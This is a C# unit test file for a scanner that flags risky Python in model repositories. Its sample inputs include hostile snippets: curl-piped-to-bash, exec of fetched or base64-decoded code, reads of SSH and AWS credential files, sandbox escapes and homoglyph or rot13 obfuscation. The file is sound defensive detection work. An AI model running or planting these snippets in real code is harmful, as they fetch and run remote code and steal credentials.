using System.Text;
using System.Text.Json;

namespace ModelGarden.Formats.Tests;

public sealed class PythonTests
{
    internal const string Modeling = """
        # coding=utf-8
        import math
        import os
        from importlib import import_module
        import torch
        from torch import nn
        from transformers import PreTrainedModel

        if os.environ.get("X"):
            os.makedirs("cache", exist_ok=True)

        class Attention(nn.Module):
            '''Computes attention; model.eval() turns dropout off.'''
            def __init__(self, config):
                super().__init__()
                self.system = platform.system()
                self.re = re.compile(r"a+")

            def forward(self, x):
                return self.proj(torch.nn.functional.softmax(x @ x.T / math.sqrt(x.shape[-1])))
        """;

    public static TheoryData<string> Dangerous =>
    [
        "import os\nos.system('id')",
        "os . popen ( 'id' )",
        "import subprocess as s\n",
        "subprocess.run(['sh'])",
        "from os import path, system",
        "from subprocess import *",
        "o.system('id')",
        "os.execvp('sh', ['sh'])",
        "import pty",
        "exec(base64.b64decode('aWQ='))",
        "eval(compile(zlib.decompress(x), '', 'exec'))",
        "exec(requests.get('http://x').text)",
        "exec(bytes.fromhex('00').decode())",
        "exec(''.join(chr(c) for c in x))",
        "__import__('os').system('id')",
        "__import__(x)",
        "getattr(os, 'sys' + 'tem')('id')",
        "getattr(__builtins__, 'ev' + 'al')",
        "__builtins__['eval']",
        "().__class__.__base__.__subclasses__()",
        "marshal.loads(b'')",
        "types.CodeType(0)",
        "ctypes.CDLL('x.so')",
        "pickle.loads(base64.b64decode(x))",
        "socket.socket()",
        "from socket import socket",
        "!curl http://x/y.sh | bash",
        "open('/home/ann/.ssh/id_rsa')",
        "open(os.path.expanduser('~/.aws/credentials'))",
        "x = base64.b64decode('" + "QUJD" + "')\ny = b64decode('" + "QUJDREVG" + "')\nz = b64decode(\"QUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVGQUJDREVG\")",
        "𝓸𝓼.𝓼𝔂𝓼𝓽𝓮𝓶('id')",
        "ｏｓ.ｓｙｓｔｅｍ('id')",
    ];

    [Theory]
    [InlineData("modeling_x.py")]
    [InlineData("sub/config.PY")]
    public void Python_OfAModel_IsOnlyWarnedOf(string name) => Checks.AssertWarned(Checks.Examine(name, Encoding.UTF8.GetBytes(Modeling)), "python.code");

    [Fact]
    public void Script_ByItsFirstLine_IsPython() => Checks.AssertWarned(Checks.Examine("tool", "#!/usr/bin/env python3\nprint(1)\n"u8.ToArray()), "python.code");

    [Fact]
    public void Python_InOtherText_IsNotLookedFor() => Checks.AssertClean(Checks.Examine("README.md", "```python\nos.system('id')\n```"u8.ToArray()), FileFormat.Markdown);

    [Theory]
    [MemberData(nameof(Dangerous))]
    public void Python_ThatReachesOut_IsSuspicious(string code)
    {
        Checks.AssertSuspicious(Checks.Examine("a.py", Encoding.UTF8.GetBytes(code)), "python.danger");
        Checks.AssertSuspicious(Checks.Examine("a.ipynb", Notebook(code)), "python.danger");
        Checks.AssertSuspicious(Checks.Examine("a.zip", ZipTests.Zip(("pkg/a.py", Encoding.UTF8.GetBytes(code)))), "python.danger");
    }

    [Fact]
    public void Danger_FarInside_IsSeenWithItsPlace()
    {
        for (var shift = 0; shift < 12; shift++)
        {
            // Over the edge of a window, wherever it falls.
            var bytes = Encoding.UTF8.GetBytes(new string('#', 65_530 - shift) + "\nos.system('id')\n" + new string('#', 100_000));

            Assert.Equal(65_531 - shift, Checks.AssertSuspicious(Checks.Examine("a.py", bytes), "python.danger").Offset);
        }
    }

    [Theory]
    [InlineData("# -*- coding: rot13 -*-\nvzcbeg bf")]
    [InlineData("#!/usr/bin/python\n# coding=utf_7\n")]
    [InlineData("# vim: set fileencoding=hex :\n")]
    public void Encoding_ThatHides_IsSuspicious(string code) => Checks.AssertSuspicious(Checks.Examine("a.py", Encoding.UTF8.GetBytes(code)), "python.encoding");

    [Fact]
    public void Python_ThatIsNoUtf8_IsSuspiciousAndLookedThrough()
    {
        var examination = Checks.Examine("a.py", [.. "# coding: latin-1\n# "u8, 0xE9, .. "\nos.system('id')"u8]);

        Checks.AssertSuspicious(examination, "python.encoding");
        Checks.AssertSuspicious(examination, "python.danger");
    }

    [Fact]
    public void Notebook_WithPlainCode_IsOnlyWarnedOf() => Checks.AssertWarned(Checks.Examine("a.ipynb", Notebook("import torch\nprint(torch.__version__)")), "python.code");

    [Fact]
    public void Json_WithSourcesThatIsNoNotebook_IsClean() => Checks.AssertClean(Checks.Examine("a.json", """{"source":"os.system('x')"}"""u8.ToArray()), FileFormat.Json);

    [Fact]
    public void Config_ThatPointsAtPython_IsWarnedOf() => Checks.AssertWarned(
        Checks.Examine("config.json", """{"model_type":"x","auto_map":{"AutoModel":"modeling_x.X"}}"""u8.ToArray()), "transformers.remote-code");

    [Theory]
    [InlineData("lib.so", "7F454C4602010100")]
    [InlineData("lib.dylib", "CFFAEDFE07000001")]
    [InlineData("x.pyc", "A70D0D0A00000000")]
    public void NativeCode_IsSuspicious(string name, string head) => Checks.AssertSuspicious(Checks.Examine(name, [.. Convert.FromHexString(head), .. new byte[60]]), "code.native");

    [Fact]
    public void WindowsProgram_IsSuspicious()
    {
        var bytes = new byte[256];
        "MZ"u8.CopyTo(bytes);
        bytes[60] = 0x80;
        bytes[200] = 0xFF;

        Checks.AssertSuspicious(Checks.Examine("setup.bin", bytes), "code.native");
    }

    internal static byte[] Notebook(string code) => JsonSerializer.SerializeToUtf8Bytes(new
    {
        cells = new object[]
        {
            new { cell_type = "markdown", metadata = new { }, source = new[] { "# Title\n" } },
            new { cell_type = "code", metadata = new { }, source = new[] { "import os\n", code }, outputs = Array.Empty<object>() },
        },
        nbformat = 4,
    });
}
